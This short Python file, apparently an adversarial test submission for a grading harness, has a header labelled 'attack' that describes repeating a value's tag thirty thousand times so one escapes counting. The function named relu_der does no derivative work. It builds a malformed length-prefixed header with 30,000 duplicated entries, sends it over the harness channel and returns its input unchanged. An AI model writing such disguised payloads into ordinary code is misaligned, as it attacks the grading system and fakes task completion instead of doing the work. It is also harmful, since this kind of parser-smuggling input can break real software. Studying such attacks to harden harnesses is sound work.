# /// attack
# tries = "Repeat the tag of a value thirty thousand times, so that one of them escapes the counting."
# verdicts = ["wrong_answer", "runtime_error"]
# graded = true
# ///
import struct

def relu_der(dA, cache):
    header = b'{"t":[%d,"ok",{' % request_number() + b'"a":["f8",9999999],' * 30_000 + b'"a":["f8",1]}]}'
    send(struct.pack("<IQ", len(header), 8) + header + bytes(8))
    return dA
